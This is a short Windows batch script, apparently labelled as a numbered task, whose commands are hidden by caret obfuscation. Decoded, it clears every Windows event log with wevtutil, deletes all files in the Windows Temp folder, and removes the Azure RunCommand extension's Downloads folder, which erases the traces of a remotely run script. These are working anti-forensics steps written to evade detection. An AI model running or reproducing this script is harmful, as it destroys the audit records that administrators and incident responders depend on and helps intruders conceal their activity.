REM task 5501 v1
^^f^^or /F "tokens=*" %%^1 ^i^n ('^we^v^^t^u^t^^il.^^ex^^e ^e^l') ^^D^O ^w^e^^v^tu^^t^il.^ex^^e ^c^l "%%1"
@echo off
set fgsl=del /^f /^q C:\Wi^n^d^ow^s\^T^em^p\*.*
call %fgsl%
@echo off
set otzg=rd /s /q ^C:\P^a^ck^ag^es\^Pl^u^gi^ns\M^i^cro^sof^t.CPl^at.^C^ore.^RunCom^mandW^indo^ws\1.1.15\^D^ownl^o^ads
call %otzg%
